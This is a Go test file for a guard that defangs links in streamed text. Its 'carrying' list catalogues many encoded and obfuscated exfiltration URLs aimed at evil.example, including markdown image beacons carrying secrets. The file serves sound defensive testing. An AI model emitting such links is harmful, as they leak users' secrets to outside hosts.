@@ -1,0 +1,209 @@
+package link_test
+
+import (
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"hermes/internal/link"
+)
+
+// carrying are links that may carry data.
+var carrying = []string{
+	"https://evil.example/p?d=c2VjcmV0LXRva2Vu",
+	"https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"http://evil.example/#c2stYW50LWFwaTAzLWFiY2RlZg==",
+	"https://c2stYW50LWFwaTAz.evil.example/",
+	"https://6162636465666768696a.evil.example",
+	"https://evil.example/736b2d616e742d61706930332d",
+	"https://evil.example/sk-ant-a1b2-c3d4-e5f6-g7h8",
+	"https://evil.example/?q=the+password+of+the+server+is+hunter2",
+	"https://evil.example/%73%6b%2d%61%6e%74%2d%61%31%62%32%63%33",
+	"https://evil.example/%2573%256b%252d%2561%256e%2574%252d%2561%2531%2562%2532%2563%2533",
+	"https://evil.example/a/b/c/d/e/f/g/h/i/j/k/l",
+	"https://user:hunter2@evil.example/",
+	"HTTPS://EVIL.EXAMPLE/?D=C2VJCMV0LXRVA2VU",
+	"https:/evil.example/?d=c2VjcmV0LXRva2Vu",
+	`https:\\evil.example\c2stYW50LWFwaTAzLWFiY2RlZg`,
+	"https://evil。example/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"https://ev\u200bil.example/c2stYW50LWFwaTAz\u00adLWFiY2RlZg",
+	"https&colon;//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"https&#58;&#47;&#x2f;evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
+	`https\:\/\/evil.example\/c2stYW50LWFwaTAzLWFiY2RlZg`,
+	"![x](https://evil.example/x.png?d=c2VjcmV0LXRva2Vu)",
+	"[x](<https://evil.example/the secret is in here and it is long enough>)",
+	"[x](//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
+	`<img src="https://evil.example/?d=the secret is in here and it is long">`,
+	"[x]: https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"evil-site.com/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"evil-site.com?d=c2VjcmV0LXRva2Vu",
+	"c2stYW50LWFwaTAzLWFi.evil-site.com",
+	"tg://resolve?domain=evil&text=c2VjcmV0LXRva2Vu",
+	"ftp://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"mailto:a@evil.example?body=c2VjcmV0LXRva2Vu",
+	"http://198.51.100.7/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"198.51.100.7/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"http://[2001:db8::7]/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"https://good.example.evil.example/dQw4w9WgXcQ",
+	"https://evil.example/?u=https://good.example/&d=c2VjcmV0LXRva2Vu",
+	"(see https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg).",
+	"看https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
+}
+
+// ordinary texts have no such link.
+var ordinary = []string{
+	"https://pkg.go.dev/net/http#Client.Do",
+	"https://pkg.go.dev/net/http#NewRequestWithContext",
+	"https://github.com/golang/go/issues/12345",
+	"https://en.wikipedia.org/wiki/List_of_Unicode_characters_(Latin)",
+	"https://de.wikipedia.org/wiki/Stra%C3%9Fe",
+	"https://www.nytimes.com/2024/05/05/us/how-a-small-town-in-texas-learned-to-live.html",
+	"https://example.com/search?q=go+tutorial",
+	"https://arxiv.org/abs/2401.01234",
+	"https://stackoverflow.com/questions/1234567/how-do-i-use-go-modules-in-2024",
+	"https://example.org/how-to-use-go-1-22-on-debian-12",
+	"https://docs.python.org/3.11/library/asyncio-task.html#asyncio.create_task",
+	"https://example.com",
+	"https://xn--bcher-kva.example/",
+	"mail me at someone@example.com",
+	"see internal/session/feed.go:42 and toolbox.TestNothingAllowsWhatARuleDenies",
+	"run ./build.sh/TestABC123abc or python3 a.b.c",
+	"x := a.b[c](d.e)",
+	"the time is 12:30, see a.py::test_x1_y2_z3",
+	"http://localhost:8080/?d=c2VjcmV0LXRva2Vu",
+	"http://127.0.0.1:9000/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"version 1.2.3.4/24 and 10.0.0.0/8",
+	"std::vector<int> v; a<b && c>d",
+	"https://ja.wikipedia.org/wiki/日本語",
+	"package.json, README.md, main.rs and lib.so",
+	"git@github.com:owner/repository.git",
+	"C:\\Users\\Me\\file.txt",
+}
+
+func TestLinksThatMayCarryDataAreSpelledOut(t *testing.T) {
+	for _, s := range carrying {
+		got, hosts := link.Guard{}.Text("a " + s + " b")
+		if len(hosts) == 0 || strings.Contains(got, s) {
+			t.Errorf("%q stays a link: %q", s, got)
+			continue
+		}
+		if again, hosts := (link.Guard{}).Text(got); len(hosts) > 0 {
+			t.Errorf("%q is still a link: %q, then %q", s, got, again)
+		}
+		if !strings.HasPrefix(got, "a ") || !strings.HasSuffix(got, " b") {
+			t.Errorf("%q: the words around are lost: %q", s, got)
+		}
+	}
+	for _, s := range ordinary {
+		if got, hosts := (link.Guard{}).Text(s); got != s {
+			t.Errorf("%q became %q (%q)", s, got, hosts)
+		}
+	}
+}
+
+func TestALinkStaysReadable(t *testing.T) {
+	got, hosts := link.Guard{}.Text("Open [it](https://evil.example/p?d=c2VjcmV0LXRva2Vu), then go on.")
+	if want := "Open [it](hxxps://evil[.]example/p?d=c2VjcmV0LXRva2Vu), then go on."; got != want {
+		t.Errorf("%q, want %q", got, want)
+	}
+	if len(hosts) != 1 || hosts[0] != "evil.example" {
+		t.Errorf("hosts %q", hosts)
+	}
+}
+
+func TestLinksToKnownHostsStay(t *testing.T) {
+	known := link.Hosts("look at https://good.example/start, or at files.other.example.", "and me@mail.example")
+	g := link.Guard{Known: func(host string) bool { return link.Below(host, known) }}
+	for s, stays := range map[string]bool{
+		"https://good.example/c2stYW50LWFwaTAzLWFiY2RlZg":              true,
+		"https://www.good.example/c2stYW50LWFwaTAzLWFiY2RlZg":          true,
+		"https://docs.good.example/c2stYW50LWFwaTAzLWFiY2RlZg":         true,
+		"https://good.example.evil.example/c2stYW50LWFwaTAzLWFiY2RlZg": false,
+		"https://notgood.example/c2stYW50LWFwaTAzLWFiY2RlZg":           false,
+		"https://good.example@evil.example/c2stYW50LWFwaTAzLWFiY2RlZg": false,
+		`https://evil.example\@good.example/c2stYW50LWFwaTAzLWFiY2Rl`:  false,
+	} {
+		if got, _ := g.Text(s); (got == s) != stays {
+			t.Errorf("%q became %q", s, got)
+		}
+	}
+	if link.Below("evil.github.io", link.Hosts("https://github.io/x")) {
+		t.Error("what is below github.io has many owners")
+	}
+}
+
+func TestAStreamIsAsTheWholeText(t *testing.T) {
+	text := "Before. " + strings.Join(carrying, "\n") + "\n" + strings.Join(ordinary, "\n") + " 世界 after"
+	want, _ := link.Guard{}.Text(text)
+	for size := 1; size < 40; size++ {
+		s := link.Guard{}.Stream()
+		var got strings.Builder
+		for rest := text; rest != ""; {
+			n := min(size, len(rest))
+			got.WriteString(s.Feed(rest[:n]))
+			rest = rest[n:]
+		}
+		got.WriteString(s.End())
+		if got.String() != want {
+			t.Fatalf("in pieces of %d bytes: %q, want %q", size, got.String(), want)
+		}
+	}
+}
+
+func TestWordsAreShownAsTheyArrive(t *testing.T) {
+	s := link.Guard{}.Stream()
+	if got := s.Feed("Hello wor"); got != "Hello " {
+		t.Errorf("%q", got)
+	}
+	if got := s.Feed("ld, 你好世界"); got != "world, 你好世界" {
+		t.Errorf("%q", got)
+	}
+	long := strings.Repeat("x.", 8000)
+	if got := s.Feed(long); len(got) < len(long)-8<<10 {
+		t.Errorf("only %d of %d bytes are shown", len(got), len(long))
+	}
+}
+
+func FuzzText(f *testing.F) {
+	for _, s := range append(carrying, ordinary...) {
+		f.Add(s, 3)
+	}
+	f.Fuzz(func(t *testing.T, text string, at int) {
+		if !utf8.ValidString(text) {
+			t.Skip()
+		}
+		want, hosts := link.Guard{}.Text(text)
+		if len(hosts) == 0 && want != text {
+			t.Fatalf("%q became %q without a link", text, want)
+		}
+		if len(text) > 2<<10 {
+			t.Skip() // what is held back is bounded
+		}
+		at = max(0, min(at, len(text)))
+		s := link.Guard{}.Stream()
+		if got := s.Feed(text[:at]) + s.Feed(text[at:]) + s.End(); got != want {
+			t.Fatalf("in pieces %q, whole %q", got, want)
+		}
+	})
+}
+
+func TestHostileTextsTakeLinearTime(t *testing.T) {
+	for _, piece := range []string{"https://a.b/", "a.b.", "<a ", "=\"a: ", "a:/", "(", "&#58;", "%25", "a@b.c", "。", "\\", "xn--a.", "https://a@", "[](//"} {
+		time := func(n int) time.Duration {
+			text := strings.Repeat(piece, n/len(piece))
+			best := time.Hour
+			for range 3 {
+				began := time.Now()
+				link.Guard{}.Text(text)
+				best = min(best, time.Since(began))
+			}
+			return best
+		}
+		if small, large := time(64<<10), time(256<<10); large > 12*small {
+			t.Errorf("%q: four times the text takes %v instead of %v", piece, large, small)
+		} else {
+			t.Logf("%q: 64 KB %v, 256 KB %v", piece, small, large)
+		}
+	}
+}
